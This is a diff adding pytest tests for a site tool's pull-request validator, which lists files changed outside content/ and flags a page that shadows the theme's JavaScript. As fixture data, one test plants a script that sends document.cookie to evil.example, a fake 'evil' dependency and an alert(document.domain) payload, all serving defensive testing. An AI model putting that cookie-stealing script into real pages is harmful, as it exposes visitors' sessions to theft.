@@ -226,3 +226,97 @@ def test_a_pull_requests_preview_links_its_posts_to_it(repo, write, monkeypatch)
     mine = next(c for c in cards if "Proposed here" in c)
     other = next(c for c in cards if "Already planned" in c)
     assert f'href="{pr}"' in mine and pr not in other
+
+
+# --- what review does not see in content/ ----------------------------------------------------------------
+
+APPROVED_WITH_IMAGE = VALID_POST + "status: approved\nmedia:\n  - src: media/lhc.png\n    alt: The LHC tunnel"
+
+
+def propose(repo, files: dict[str, bytes | None]) -> None:
+    """A branch `proposal` off main that writes (or, for None, deletes) these files, committed."""
+    git(repo.root, "switch", "-qc", "proposal")
+    for name, data in files.items():
+        path = repo.root / name
+        if data is None:
+            git(repo.root, "rm", "-q", name)
+            continue
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(data)
+    git(repo.root, "add", "-A")
+    git(repo.root, "commit", "-qm", "proposal")
+
+
+def summary_of(repo, tmp_path) -> tuple[int, str]:
+    summary = tmp_path / "summary.md"
+    result = run(repo, "validate", "--changed-since", "main", "--summary", str(summary))
+    return result.exit_code, summary.read_text()
+
+
+@pytest.fixture
+def with_image(repo, write):
+    """main has an approved post that shows media/lhc.png, and a page of the team."""
+    write("approved.md", APPROVED_WITH_IMAGE)
+    (repo.root / "media").mkdir()
+    (repo.root / "media" / "lhc.png").write_bytes(b"\x89PNG\r\n\x1a\nthe reviewed picture")
+    (repo.root / "pages").mkdir()
+    (repo.root / "pages" / "old.md").write_text("# Old page\n")
+    git(repo.root, "add", "-A")
+    git(repo.root, "commit", "-qm", "approved post")
+    return repo
+
+
+def test_a_pull_request_outside_content_is_listed_with_what_each_file_affects(with_image, tmp_path) -> None:
+    script = b"# Team\n\n<script>fetch('https://evil.example/?'+document.cookie)</script>\n"
+    propose(
+        with_image,
+        {
+            "pages/team.md": script,
+            "media/lhc.png": b"\x89PNG\r\n\x1a\na different picture",
+            "generator/diagnostics.py": b"# turns every error into nothing\n",
+            ".github/workflows/pr.yml": b"on: push\n",
+            "templates/overrides/main.html": b"{% extends 'base.html' %}<script>x</script>\n",
+            "mkdocs.yml": (with_image.root / "mkdocs.yml").read_bytes() + b"\nextra_javascript: [x.js]\n",
+            "pyproject.toml": b"[project]\nname = 'x'\n",
+            "requirements/app.txt": b"evil==1.0\n",
+            "pages/old.md": None,
+        },
+    )
+    status, text = summary_of(with_image, tmp_path)
+    assert status == 0  # nothing socialcal checks is wrong: the reviewers decide
+    head = text.split("### Diagnostics")[0]
+    assert "0 post(s) added or changed · ✅ no problems · ⚠️ 9 file(s) changed outside content/, 6 of them code" in head
+    rows = {line.split(" | ")[0].strip("| "): line for line in text.splitlines() if line.startswith("| ")}
+    assert "page of the site: published as written" in rows["pages/team.md"] and "added" in rows["pages/team.md"]
+    assert "deleted" in rows["pages/old.md"]
+    assert "shown by 1 post(s): LHC restarts (approved)" in rows["media/lhc.png"]
+    for code in (
+        "generator/diagnostics.py",
+        ".github/workflows/pr.yml",
+        "templates/overrides/main.html",
+        "mkdocs.yml",
+        "pyproject.toml",
+        "requirements/app.txt",
+    ):
+        assert "code: a maintainer reviews" in rows[code], code
+    assert "<script>" not in text  # only names and what they affect: nothing of the files themselves
+
+
+def test_a_page_shadowing_the_themes_script_is_an_error_in_the_pull_request(with_image, tmp_path) -> None:
+    propose(with_image, {"pages/assets/javascripts/bundle.a5f9d56c.min.js": b"alert(document.domain)\n"})
+    status, text = summary_of(with_image, tmp_path)
+    assert status == 1
+    assert "❌ 1 error(s)" in text and "SC504" in text
+    assert "pages/assets/javascripts/bundle.a5f9d56c.min.js" in text.split("### Files changed outside content/")[1]
+
+
+def test_a_post_and_a_file_outside_content_are_both_listed(with_image, write, tmp_path) -> None:
+    git(with_image.root, "switch", "-qc", "proposal")
+    write("new.md", VALID_POST.replace("10:00", "15:00").replace("LHC restarts", "New post"))
+    (with_image.root / "media" / "new.png").write_bytes(b"\x89PNG\r\n\x1a\nnew")
+    git(with_image.root, "add", "-A")
+    git(with_image.root, "commit", "-qm", "proposal")
+    status, text = summary_of(with_image, tmp_path)
+    assert status == 0
+    assert "1 post(s) added or changed · ✅ no problems · ⚠️ 1 file(s) changed outside content/" in text
+    assert "| media/new.png | added | media: no post shows it |" in text
